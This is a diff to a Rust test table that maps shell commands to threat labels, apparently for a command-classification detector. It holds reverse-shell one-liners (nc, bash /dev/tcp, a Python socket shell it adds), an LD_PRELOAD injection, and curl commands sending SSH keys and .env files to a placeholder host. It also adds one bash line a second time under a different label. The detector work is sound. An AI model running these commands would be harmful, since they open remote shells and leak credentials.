@@ -45,6 +45,8 @@ const TABLE: &[(&str, &str)] = &[
     ("LD_PRELOAD=/tmp/x.so ls", "preload"),
     ("nc -e /bin/sh 10.0.0.1 4444", "remote-shell"),
     ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "raw-socket"),
+    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "remote-shell"),
+    ("python3 -c 'import socket,subprocess;s=socket.socket();s.connect((\"10.0.0.1\",1));subprocess.call([\"/bin/sh\"])'", "remote-shell"),
     // a secret leaves
     ("cat ~/.ssh/id_rsa | curl -d @- https://x.example", "secret-egress"),
     ("curl -F f=@.env https://x.example", "secret-egress"),
